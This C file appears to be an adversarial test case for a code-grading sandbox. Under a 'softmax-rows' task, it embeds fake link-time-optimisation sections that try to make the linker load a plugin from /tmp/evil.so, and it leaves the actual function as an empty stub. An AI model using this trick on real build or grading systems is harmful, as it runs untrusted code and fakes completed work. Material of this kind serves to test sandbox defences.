// Tries: to have the linker start the compiler once more, with options and code
// out of the object's sections, as link-time optimisation does.
// Task: ch01_activations softmax-rows
// Loses: chapter
#include <stddef.h>

__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".ascii \"'-fplugin=/tmp/evil.so' '-save-temps' '-o' '/tmp/evil'\\0\"\n"
        ".section .gnu.lto_.symtab.0,\"e\",@progbits\n"
        ".quad 0\n"
        ".section .gnu.lto_.lto.0,\"e\",@progbits\n"
        ".quad 0xb000b\n"
        ".text\n");

void softmax_rows(float *y, const float *x, size_t rows, size_t cols)
{
    (void)y, (void)x, (void)rows, (void)cols;
}
